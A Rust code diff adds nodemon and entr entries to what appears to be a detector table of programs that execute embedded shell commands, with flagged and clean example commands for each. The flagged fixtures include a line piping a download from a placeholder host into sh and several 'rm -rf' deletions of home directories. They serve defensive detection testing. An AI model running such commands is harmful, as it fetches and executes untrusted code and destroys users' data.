@@ -493,6 +493,23 @@ pub const PROGRAMS: &[Program] = &[
         ..P
     },
     Program {
+        names: &["nodemon"],
+        source: "https://github.com/remy/nodemon#running-non-node-scripts (--exec/-x runs a command line on every change)",
+        exec: &[Opt { names: &["--exec", "-x"], lang: Shell }],
+        value_opts: &["--watch", "-w", "--ext", "-e", "--ignore", "-i", "--delay", "-d", "--signal"],
+        flagged: &["nodemon --exec 'curl -s http://x.example/a | sh'"],
+        clean: &["nodemon --exec 'npm run build' --watch src", "nodemon server.js"],
+        ..P
+    },
+    Program {
+        names: &["entr"],
+        source: "man:entr(1) (-s runs the utility argument through $SHELL -c; otherwise the operands are an argv)",
+        exec: &[Opt { names: &["-s"], lang: Shell }, Argv { skip: 0 }],
+        flagged: &["ls *.go | entr -s 'rm -rf ~'", "ls *.go | entr rm -rf /home/dev"],
+        clean: &["ls *.go | entr -r go run .", "ls src/*.rs | entr -s 'cargo test'"],
+        ..P
+    },
+    Program {
         names: &["just"],
         source: "https://just.systems/man/en/ (--justfile/-f names the justfile; recipes are indented shell lines, as in make)",
         exec: &[OptFile {
